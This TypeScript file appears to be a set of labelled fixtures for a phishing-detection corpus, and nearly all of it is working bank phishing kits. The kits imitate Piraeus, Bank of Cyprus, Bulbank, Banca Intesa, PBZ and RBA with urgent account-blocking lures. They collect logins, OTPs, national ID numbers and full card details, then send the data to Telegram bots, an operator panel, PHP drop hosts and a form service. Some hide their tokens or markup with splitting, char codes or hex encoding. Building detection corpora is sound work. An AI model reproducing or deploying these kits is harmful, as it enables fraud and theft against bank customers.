import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { bankLogo, cardFields, codes, doc, hex, luhnJs, splitJs, tgSendJs, visitorInfoJs } from '../parts/xc-kit.js';

// Piraeus: three-step live-panel kit (credentials, SMS OTP, card) reporting to Telegram and polling an operator panel.
const piraeusKit = doc({
  lang: 'el',
  title: 'Piraeus e-banking | Σύνδεση',
  head: `<link rel="icon" href="data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 36 36"><rect width="36" height="36" rx="6" fill="#00365a"/></svg>')}">`,
  css: `header{background:#fff;border-bottom:1px solid #dde3ea;padding:14px 32px;display:flex;justify-content:space-between;align-items:center}
header nav a{color:#00365a;margin-left:18px;font-size:14px;text-decoration:none}
.hero{display:flex;justify-content:center;padding:48px 16px;background:linear-gradient(180deg,#00365a 0,#00365a 210px,#f4f6f8 210px)}
.box{background:#fff;width:420px;border-radius:10px;box-shadow:0 8px 30px rgba(0,0,0,.12);padding:30px}
.box h1{font-size:21px;margin:0 0 6px;color:#00365a}.sub{color:#5a6676;font-size:14px;margin:0 0 20px}
.fld{margin-bottom:14px}.fld label{display:block;font-size:13px;color:#4a5565;margin-bottom:5px}
.fld input{width:100%;padding:12px;border:1px solid #c5ced8;border-radius:6px;font-size:15px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:12px}.exp input{width:44%}
.btn{width:100%;background:#f2b800;color:#00365a;font-weight:700;border:0;border-radius:6px;padding:13px;font-size:15px;cursor:pointer}
.step{display:none}.step.on{display:block}.err{color:#c0392b;font-size:13px;min-height:18px}
.timer{font-size:13px;color:#5a6676}.spin{width:38px;height:38px;border:4px solid #e1e6ec;border-top-color:#00365a;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}
@keyframes r{to{transform:rotate(360deg)}}footer{text-align:center;font-size:12px;color:#7a8594;padding:20px}`,
  body: `<header>${bankLogo('piraeus', 'Piraeus')}<nav><a href="#">Ιδιώτες</a><a href="#">Επιχειρήσεις</a><a href="#">Επικοινωνία</a></nav></header>
<div class="hero"><div class="box">
 <div class="step on" id="s1">
  <h1>Σύνδεση στο e-banking</h1>
  <p class="sub">Για την προστασία σας, απαιτείται επανεπιβεβαίωση των στοιχείων σας έως <b id="dl"></b>. Διαφορετικά η πρόσβαση θα απενεργοποιηθεί.</p>
  <form id="f1" autocomplete="off">
   <div class="fld"><label for="u">Όνομα χρήστη (Username)</label><input id="u" name="u" required></div>
   <div class="fld"><label for="p">Κωδικός πρόσβασης (Password)</label><input id="p" name="p" type="password" required></div>
   <div class="err" id="e1"></div><button class="btn">Σύνδεση</button>
  </form>
 </div>
 <div class="step" id="s2">
  <h1>Επιβεβαίωση συναλλαγής</h1>
  <p class="sub">Στείλαμε κωδικό μίας χρήσης (OTP) στο κινητό που έχετε δηλώσει. Μην τον κοινοποιήσετε σε κανέναν.</p>
  <form id="f2" autocomplete="one-time-code">
   <div class="fld"><label for="o">Κωδικός OTP (6 ψηφία)</label><input id="o" name="o" maxlength="8" inputmode="numeric" required></div>
   <p class="timer">Ο κωδικός λήγει σε <span id="t">120</span>″</p>
   <div class="err" id="e2"></div><button class="btn">Επιβεβαίωση</button>
  </form>
 </div>
 <div class="step" id="s3">
  <h1>Ταυτοποίηση κάρτας</h1>
  <p class="sub">Για να ολοκληρωθεί η επαλήθευση, συμπληρώστε τα στοιχεία της χρεωστικής ή πιστωτικής σας κάρτας Piraeus.</p>
  <form id="f3">${cardFields('el', { holder: 'ch', number: 'cn', mm: 'em', yy: 'ey', cvv: 'cv' })}
   <div class="err" id="e3"></div><button class="btn">Ολοκλήρωση</button>
  </form>
 </div>
 <div class="step" id="sw"><div class="spin"></div><p class="sub" style="text-align:center">Παρακαλούμε περιμένετε, γίνεται έλεγχος…</p></div>
</div></div>
<footer>© Τράπεζα Πειραιώς Α.Ε. | Όροι χρήσης | Πολιτική απορρήτου</footer>
<script>
${luhnJs('chk')}
${visitorInfoJs('vinfo', 'https://ipapi.co/json/')}
var K=${splitJs('7714390651:AAF9xq_PrEgR3kLmZ8cTn0yWvB2uHd5sJo4', 5)},C='-100218873340',sid=Math.random().toString(36).slice(2,10);
var d=new Date(Date.now()+864e5);document.getElementById('dl').textContent=d.toLocaleDateString('el-GR');
function show(id){document.querySelectorAll('.step').forEach(function(s){s.classList.toggle('on',s.id===id)})}
async function log(tag,obj){var v=await vinfo();var m='<b>PIRAEUS '+tag+'</b> #'+sid+'\\n'+Object.keys(obj).map(function(k){return k+': '+obj[k]}).join('\\n')+'\\nIP: '+v.ip+' '+v.cc+'\\nUA: '+v.ua;
 ${tgSendJs('K', 'C', 'm')};
 navigator.sendBeacon('panel/live.php?a=log&sid='+sid,JSON.stringify({tag:tag,d:obj,v:v}))}
function wait(next){show('sw');var n=0;var iv=setInterval(async function(){n++;try{var r=await (await fetch('panel/live.php?a=poll&sid='+sid)).json();if(r.cmd&&r.cmd!=='wait'){clearInterval(iv);if(r.cmd==='bad'){show(next.back);document.getElementById(next.err).textContent='Λανθασμένα στοιχεία. Δοκιμάστε ξανά.'}else show(r.cmd)}}catch(e){}if(n>8){clearInterval(iv);show(next.go)}},2500)}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();log('LOGIN',{user:this.u.value,pass:this.p.value});wait({go:'s2',back:'s1',err:'e1'})};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();log('OTP',{otp:this.o.value});wait({go:'s3',back:'s2',err:'e2'})};
document.getElementById('f3').onsubmit=function(e){e.preventDefault();if(!chk(this.cn.value)){document.getElementById('e3').textContent='Μη έγκυρος αριθμός κάρτας';return}
 log('CARD',{name:this.ch.value,cc:this.cn.value,exp:this.em.value+'/'+this.ey.value,cvv:this.cv.value});show('sw');setTimeout(function(){location.replace('https://www.piraeusbank.gr/el/idiwtes')},4000)};
var t=120;setInterval(function(){if(t>0)document.getElementById('t').textContent=--t},1000);
</script>`,
});

// Bank of Cyprus: SMS short link -> tracker hop -> kit on a free hosting subdomain, posting to a PHP drop elsewhere.
const bocKit = doc({
  lang: 'en',
  title: '1bank | Bank of Cyprus',
  css: `.top{background:#00587c;height:64px;display:flex;align-items:center;padding:0 28px}.top svg{filter:brightness(0) invert(1)}
main{max-width:980px;margin:40px auto;display:grid;grid-template-columns:400px 1fr;gap:40px;padding:0 16px}
.card{background:#fff;border-radius:4px;padding:28px;border-top:4px solid #00a5df}
h1{font-weight:400;color:#00587c;font-size:26px;margin:0 0 18px}label{font-size:13px;display:block;margin:12px 0 4px;color:#333}
input,select{width:100%;padding:11px;border:1px solid #aab4be;font-size:15px}button{margin-top:18px;background:#00a5df;color:#fff;border:0;padding:12px 26px;font-size:15px;cursor:pointer}
.lang a{color:#00587c;font-size:13px;margin-right:10px}.notice{background:#e8f5fb;padding:18px;font-size:14px;line-height:1.55;color:#244}
.hide{display:none}`,
  body: `<div class="top">${bankLogo('boc', 'Bank of Cyprus', 34, true)}</div>
<main>
<div class="card">
 <div class="lang"><a href="#" onclick="gr();return false">Ελληνικά</a><a href="#">English</a></div>
 <h1 id="h">Log in to 1bank</h1>
 <form id="lf" method="post" action="https://cy-secure-notify.xyz/b0c/next.php">
  <input type="hidden" name="step" value="login"><input type="hidden" name="ref" value="sms-0925">
  <div id="a"><label>User ID</label><input name="uid" maxlength="12" required>
  <label>Passcode</label><input name="pwd" type="password" required></div>
  <div id="b" class="hide"><label>Mobile number registered with 1bank</label><input name="mob" placeholder="+357 9X XXX XXX">
  <label>Verification code (SMS / Digipass)</label><input name="code" inputmode="numeric" maxlength="8"></div>
  <button id="go">Log in</button>
 </form>
</div>
<div class="notice"><b>Important: your 1bank access is restricted</b><br>Due to a security update under the EU PSD2 directive, customers must re-confirm their identity. Accounts not confirmed within 24 hours will be temporarily suspended and cards blocked.<br><br>Need help? Call our 24-hour line.</div>
</main>
<script>
var f=document.getElementById('lf'),stage=0;
function gr(){document.getElementById('h').textContent='Είσοδος στο 1bank';document.getElementById('go').textContent='Είσοδος'}
f.addEventListener('submit',function(e){if(stage===0){e.preventDefault();var fd=new FormData(f);fetch(f.action,{method:'POST',body:fd,mode:'no-cors'});stage=1;
 document.getElementById('a').classList.add('hide');document.getElementById('b').classList.remove('hide');f.step.value='otp';document.getElementById('go').textContent='Confirm';}});
</script>`,
});

// UniCredit Bulbank: Bulgarian kit with a phone + SMS step; data goes as JSON to an API path on the kit host.
const bulbankKit = doc({
  lang: 'bg',
  title: 'Булбанк Онлайн – Вход',
  css: `body{background:#f2f2f2}.bar{background:#fff;padding:12px 30px;border-bottom:3px solid #e2001a}
.wrap{max-width:440px;margin:46px auto;background:#fff;padding:32px 36px;box-shadow:0 2px 10px rgba(0,0,0,.08)}
h2{margin:0 0 4px;font-weight:600}.muted{color:#666;font-size:13px;margin-bottom:22px}
.in{position:relative;margin-bottom:16px}.in input{width:100%;border:0;border-bottom:2px solid #bbb;padding:12px 2px;font-size:16px;outline:0}.in input:focus{border-color:#e2001a}
.cta{background:#e2001a;color:#fff;border:0;border-radius:22px;padding:12px;width:100%;font-size:16px}.alert{background:#fff4e5;border-left:4px solid #f0a020;padding:10px 12px;font-size:13px;margin-bottom:18px}
#p2{display:none}.links{margin-top:16px;font-size:13px}.links a{color:#e2001a}`,
  body: `<div class="bar">${bankLogo('bulbank')}</div>
<div class="wrap">
 <div id="p1"><h2>Вход в Булбанк Онлайн</h2><div class="muted">Физически лица</div>
 <div class="alert">Поради въвеждането на еврото от 1 януари е необходимо да актуализирате профила си. Неактуализираните профили ще бъдат ограничени.</div>
 <form id="a"><div class="in"><input name="user" placeholder="Потребителско име" required></div>
 <div class="in"><input name="pass" type="password" placeholder="Парола" required></div>
 <button class="cta">Вход</button></form>
 <div class="links"><a href="#">Забравена парола?</a> · <a href="#">Регистрация</a></div></div>
 <div id="p2"><h2>Потвърждение чрез Mobile B-Trust</h2><div class="muted">Въведете мобилния си номер и кода, изпратен чрез SMS.</div>
 <form id="b"><div class="in"><input name="egn" placeholder="ЕГН" maxlength="10" required></div>
 <div class="in"><input name="phone" placeholder="+359 8__ ___ ___" required></div>
 <div class="in"><input name="sms" placeholder="Код от SMS" maxlength="6" required></div>
 <button class="cta">Потвърди</button></form></div>
</div>
<script>
var sess=(crypto.randomUUID&&crypto.randomUUID())||String(Date.now());
function send(kind,form){var o={kind:kind,sess:sess,t:new Date().toISOString()};new FormData(form).forEach(function(v,k){o[k]=v});
 return fetch('/api/v2/session/'+kind,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)})}
document.getElementById('a').onsubmit=function(e){e.preventDefault();send('login',this).finally(function(){document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block'})};
document.getElementById('b').onsubmit=function(e){e.preventDefault();send('verify',this).finally(function(){location.href='https://www.unicreditbulbank.bg/bg/'})};
</script>`,
});

// Banca Intesa (Serbian Cyrillic): "account blocked" kit asking for credentials, JMBG and card; token hidden as char codes.
const intesaKit = doc({
  lang: 'sr',
  title: 'Banca Intesa | Интеса онлајн – одблокирање налога',
  css: `header{background:#007a3d;padding:16px 28px}header svg text{fill:#fff}
.c{max-width:520px;margin:30px auto;background:#fff;border-radius:8px;padding:26px 30px;box-shadow:0 1px 6px rgba(0,0,0,.1)}
.warn{background:#fdecea;color:#8a1c12;padding:12px 14px;border-radius:6px;font-size:14px;margin-bottom:16px}
.fld{margin:10px 0}.fld label{font-size:13px;color:#444;display:block;margin-bottom:4px}.fld input{width:100%;padding:11px;border:1px solid #bfc8c2;border-radius:5px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}
button{background:#f58220;border:0;color:#fff;padding:12px;border-radius:5px;width:100%;font-size:15px;margin-top:10px}
h3{color:#007a3d;margin:20px 0 6px;font-size:16px;border-bottom:1px solid #e4ebe6;padding-bottom:4px}`,
  body: `<header>${bankLogo('intesa', 'Banca Intesa', 36, true)}</header>
<div class="c">
<div class="warn">Поштовани клијенте, ваш налог у Интеса онлајн услузи је привремено блокиран због сумњиве активности. Да бисте вратили приступ, потврдите податке у року од 12 сати.</div>
<form id="frm">
<h3>1. Приступни подаци</h3>
<div class="fld"><label>Корисничко име</label><input name="korisnik" required></div>
<div class="fld"><label>Лозинка</label><input name="lozinka" type="password" required></div>
<h3>2. Лични подаци</h3>
<div class="fld"><label>ЈМБГ</label><input name="jmbg" maxlength="13" inputmode="numeric" required></div>
<div class="fld"><label>Број мобилног телефона</label><input name="tel" placeholder="+381 6x xxx xxxx" required></div>
<h3>3. Платна картица</h3>
${cardFields('sr', { number: 'kartica', mm: 'mes', yy: 'god', cvv: 'cvv' })}
<button>Потврди и одблокирај</button>
</form>
</div>
<script>
${luhnJs('ok')}
var _t=String.fromCharCode(${codes('8034417729:AAH_ints3Rb9qLw0vXkTz7Y1pNcdM4eGfUo')}),_c=String.fromCharCode(${codes('6911823047')});
document.getElementById('frm').addEventListener('submit',function(e){e.preventDefault();var f=this;if(!ok(f.kartica.value)){alert('Неисправан број картице');return}
var s='🏦 INTESA RS\\n';new FormData(f).forEach(function(v,k){s+=k+': '+v+'\\n'});
${tgSendJs('_t', '_c', 's')}.then(function(){document.body.innerHTML='<div class="c"><h3>Хвала!</h3><p>Ваш захтев је у обради. Налог ће бити одблокиран у року од 24 сата. Не одјављујте се.</p></div>';setTimeout(function(){location='https://www.bancaintesa.rs'},5000)})});
</script>`,
});

// PBZ365@NET clone on a free static host; posts to a hosted form service, then asks for the token response.
const pbzKit = doc({
  lang: 'hr',
  title: 'PBZ365@NET – Prijava',
  css: `body{background:#eef3ef}.hd{background:#fff;padding:14px 24px;border-bottom:1px solid #d7e2da}
.box{max-width:430px;margin:40px auto;background:#fff;padding:28px;border-radius:6px}h1{font-size:20px;color:#006b3f;margin-top:0}
label{display:block;font-size:13px;margin:12px 0 4px}input{width:100%;padding:11px;border:1px solid #b9c7bd;border-radius:4px;font-size:15px}
button{margin-top:16px;width:100%;background:#006b3f;color:#fff;border:0;border-radius:4px;padding:12px;font-size:15px}
.help{font-size:12px;color:#667;margin-top:14px;line-height:1.5}.tok{display:flex;gap:8px;align-items:center;background:#f4f8f5;padding:10px;border-radius:4px;font-size:13px}`,
  body: `<div class="hd">${bankLogo('pbz', 'PBZ365@NET')}</div>
<div class="box">
<h1>Prijava u PBZ365@NET</h1>
<form id="pf" action="https://formspree.io/f/xpbzqkde" method="POST">
 <input type="hidden" name="_subject" value="pbz novi">
 <label>Korisnički broj / OIB</label><input name="korisnicki_broj" required>
 <label>Lozinka</label><input name="lozinka" type="password" required>
 <div class="tok">🔐 <span>Pokrenite PBZ mToken, odaberite <b>APPLI 1</b> i upišite prikazani odgovor.</span></div>
 <label>Odgovor tokena (APPLI 1)</label><input name="appli1" maxlength="8" inputmode="numeric" required>
 <label>Broj mobitela</label><input name="mob" placeholder="09x xxx xxxx">
 <button>Prijava</button>
</form>
<p class="help">Zbog usklađivanja s novim sigurnosnim standardima potrebno je ponovno potvrditi identitet. Nakon potvrde bit ćete preusmjereni na početnu stranicu.</p>
</div>
<script>
document.getElementById('pf').addEventListener('submit',function(e){e.preventDefault();var f=this;
fetch(f.action,{method:'POST',body:new FormData(f),headers:{Accept:'application/json'}}).finally(function(){location.href='https://www.pbz.hr/'})});
</script>`,
});

// RBA (Raiffeisen Croatia): the whole kit shipped as hex, decoded and written at load.
const rbaInner = `<div style="max-width:420px;margin:40px auto;background:#fff;padding:30px;border-top:6px solid #fee600;font-family:Arial">
<div style="display:flex;align-items:center;gap:10px">${bankLogo('raiffeisen', 'RBA')}<span style="font-size:14px;color:#555">Internet bankarstvo</span></div>
<h2 style="font-weight:500">Prijava za građane</h2>
<form id="r1" method="post" action="https://rba-hr.sigurnosni-centar.com/gate/r.php">
<p><label>Korisničko ime<br><input name="kor" style="width:100%;padding:10px" required></label></p>
<p><label>PIN<br><input name="pin" type="password" maxlength="6" style="width:100%;padding:10px" required></label></p>
<p><label>Jednokratna zaporka (token)<br><input name="otp" maxlength="8" style="width:100%;padding:10px" required></label></p>
<input type="hidden" name="src" value="hr-sms-3">
<button style="background:#fee600;border:0;padding:12px;width:100%;font-weight:700">Prijava</button></form>
<p style="font-size:12px;color:#777">Vaš pristup je ograničen dok ne potvrdite podatke (PSD2).</p></div>`;

export const entries: Entry[] = [
  {
    id: 'xc-piraeus-ebanking-otp-kit',
    label: 'phishing',
    kind: 'bank-live-panel-kit',
    url: 'https://piraeusbank-epivevaiosi.icu/ebanking/el/login.php?sess=Q2Kx81',
    body: piraeusKit,
    routes: {
      'piraeusbank-epivevaiosi.icu/ebanking/el/panel/live.php': jsonRoute({ ok: 1, cmd: 'wait' }),
    },
  },
  {
    id: 'xc-bankofcyprus-1bank-sms-chain',
    label: 'phishing',
    kind: 'sms-redirect-chain-bank-kit',
    url: 'https://bocy-alert.link/c/8Hq2',
    routes: {
      'bocy-alert.link/c/8Hq2': redirectRoute(302, 'https://trk-cyp.click/r?u=1bk&s=sms0925'),
      'trk-cyp.click/r': redirectRoute(302, 'https://onebank-boc-verify.web.app/login/index.html'),
      'onebank-boc-verify.web.app/login/index.html': htmlRoute(bocKit),
    },
  },
  {
    id: 'xc-bulbank-online-kit-bg',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://bulbank-online.bg-sigurnost.com/bg/login/',
    body: bulbankKit,
    routes: {
      'bulbank-online.bg-sigurnost.com/api/v2/session/login': jsonRoute({ status: 'ok' }),
      'bulbank-online.bg-sigurnost.com/api/v2/session/verify': jsonRoute({ status: 'ok' }),
    },
  },
  {
    id: 'xc-intesa-rs-cyrillic-kit',
    label: 'phishing',
    kind: 'bank-credential-card-kit',
    url: 'https://intesa-onlajn.rs-provera.net/odblokiranje/index.html',
    body: intesaKit,
  },
  {
    id: 'xc-pbz365-formservice-kit',
    label: 'phishing',
    kind: 'bank-kit-form-service-drop',
    url: 'https://pbz365-prijava-gradjani.netlify.app/',
    body: pbzKit,
  },
  {
    id: 'xc-rba-hr-hex-kit',
    label: 'phishing',
    kind: 'hex-encoded-bank-kit',
    url: 'https://rba-hr.sigurnosni-centar.com/prijava/gradjani.html',
    body: `<!doctype html><html lang="hr"><head><meta charset="utf-8"><title>RBA – Internet bankarstvo</title><meta name="robots" content="noindex,nofollow"></head>
<body style="background:#f0f0f0;margin:0"><div id="root"></div>
<script src="/prijava/a.js"></script>
<script>var h="${hex(rbaInner)}";document.getElementById('root').innerHTML=_h2s(h);</script>
</body></html>`,
    routes: {
      'rba-hr.sigurnosni-centar.com/prijava/a.js': jsRoute(
        `function _h2s(h){var b=new Uint8Array(h.length/2);for(var i=0;i<b.length;i++)b[i]=parseInt(h.substr(i*2,2),16);return new TextDecoder('utf-8').decode(b)}`,
      ),
    },
  },
];

